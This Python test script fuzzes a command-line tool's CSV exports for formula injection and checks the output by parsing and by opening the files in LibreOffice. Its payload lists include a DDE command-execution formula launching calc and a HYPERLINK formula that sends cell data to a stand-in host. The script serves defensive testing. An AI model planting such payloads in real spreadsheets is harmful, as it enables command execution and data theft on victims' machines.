"""Puts formulas wherever text goes into a CSV file, writes every CSV the program writes, and opens them.

``python -m tests.faults.csv_formulas --rounds 5 --seed 7`` from the root of a checkout; a short run is in the
suite. The files are opened with LibreOffice where it is installed, and by its rules in any case: with commas,
semicolons and tabs between the columns, as the spreadsheets of some countries expect them.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import os
import random
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from unittest import mock

from reader import paths
from reader.cli.main import main as cables

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    "==",
    "+-",
    "=\t",
)
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"y")',
    "WEBSERVICE(A1)",
    "SUM(A1:A9)",
)
BEFORE = ("", "", "", "x;", "x\t", "x,", 'x";', "x\n", "x;\n", "x;;", "x; ", '","', '";"')
SEPARATORS = {"commas": ",", "semicolons": ";", "tabs": "\t"}
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")
HARMLESS = re.compile(r"\s*-\s+[^\W\d][^|(!=]*$")
"""An item of a list in a note; a spreadsheet with other separators may take its line for a cell."""
MRN = "06PHNOMPENH977"


def formula(chance: random.Random) -> str:
    """A text that wants to be calculated."""
    return chance.choice(BEFORE) + chance.choice(STARTS) + chance.choice(FORMULAS)


def written(home: Path, chance: random.Random) -> dict[str, str]:
    """Every CSV the program writes, by the command, from a library full of formulas."""
    texts: dict[str, str] = {}
    sample = (paths.shipped("samples") / f"{MRN}.txt").read_text()
    subject_line = "SUBJECT: REGIONAL PROGRESS ON COMMIT PROCESS"
    for number in range(4):
        text = sample.replace("PHNOMPENH 000977", f"PHNOMPENH 00097{number}")
        subject = " ".join(formula(chance).split())
        (home / f"06PHNOMPENH97{number}.txt").write_text(text.replace(subject_line, f"SUBJECT: {subject}"))
    variables = {"HOME": str(home), "XDG_DATA_HOME": f"{home}/data", "XDG_STATE_HOME": f"{home}/state"}
    with mock.patch.dict(os.environ, variables):
        said("author", formula(chance))
        said("import", *map(str, sorted(home.glob("*.txt"))))
        for _ in range(3):
            code = formula(chance)
            said("codes", "new", "--", code)
            said("codes", "define", "--", code, formula(chance))
            said("codes", "alias", "--", code, formula(chance))
            said("note", f"--text={formula(chance)}", f"--code={code}", "--code=plain", MRN, "¶1")
            said("search", "--", formula(chance))
        for command in ("list", "codes", "log"):
            texts[f"cables {command} --csv"] = said(command, "--csv")
        texts["cables codes --together --csv"] = said("codes", "--together", "--csv")
        texts["cables log --judgements --csv"] = said("log", "--judgements", "--csv")
        texts["cables data csv"] = said("data", "csv")
        said("codes", "export", str(home / "book.csv"))
        texts["cables codes export book.csv"] = (home / "book.csv").read_bytes().decode()
    return texts


def said(*words: str) -> str:
    """What a command prints, whether or not it can do what it is asked."""
    out = io.StringIO(newline="")
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        cables(words)
    return out.getvalue()


def by_the_rules(text: str) -> Iterator[str]:
    """Cells that would be calculated, with the separator that makes them cells."""
    for name, separator in SEPARATORS.items():
        # Mistaken separators make mistaken quotation marks; a spreadsheet goes on at the next line.
        lines: list[str] | io.StringIO = (
            io.StringIO(text, newline="") if separator == "," else text.splitlines()
        )
        for row in csv.reader(lines, delimiter=separator):
            for cell in row:
                if FORMULA.match(cell) and not (separator != "," and HARMLESS.match(cell)):
                    yield f"{name}: {cell[:60]!r}"


def in_libreoffice(texts: Mapping[str, str], folder: Path) -> Iterator[str]:
    """Cells that LibreOffice calculates."""
    for name, separator in SEPARATORS.items():
        place = folder / name
        place.mkdir()
        files = {place / f"{number}.csv": command for number, command in enumerate(texts)}
        for path, command in files.items():
            path.write_bytes(texts[command].encode())
        # Separator, quotation mark, UTF-8, from line 1; the last word lets formulas be calculated.
        options = f"CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true"
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless",
             f"--infilter={options}", "--convert-to", "fods", "--outdir", place, *files],
            capture_output=True, check=True, timeout=300,
        )  # fmt: skip
        for path, command in files.items():
            sheet = path.with_suffix(".fods").read_text()
            for found in re.findall(r'table:formula="([^"]*)"', sheet):
                yield f"LibreOffice, {name}, {command}: {found}"


def attack(seed: int, *, office: bool) -> tuple[int, list[str]]:
    """How many cells were looked at, and those that are formulas."""
    chance = random.Random(seed)
    with tempfile.TemporaryDirectory() as folder:
        texts = written(Path(folder), chance)
        wrong = [f"{command}, {one}" for command, text in texts.items() for one in by_the_rules(text)]
        if office:
            place = Path(folder) / "office"
            place.mkdir()
            wrong += in_libreoffice(texts, place)
    cells = sum(len(row) for text in texts.values() for row in csv.reader(io.StringIO(text, newline="")))
    return cells, wrong


def main() -> None:
    """Run as asked on the command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--seed", type=int, default=1)
    asked = parser.parse_args()
    office = shutil.which("soffice") is not None
    cells = 0
    wrong: list[str] = []
    for seed in range(asked.seed, asked.seed + asked.rounds):
        looked_at, found = attack(seed, office=office)
        cells, wrong = cells + looked_at, wrong + [f"seed {seed}, {one}" for one in found]
    print(*wrong, sep="\n")
    opened = "and opened in LibreOffice" if office else "LibreOffice is not installed"
    print(f"{cells:,} cells by the rules, {opened}; seeds from {asked.seed}: {len(wrong)} formulas")


if __name__ == "__main__":
    main()
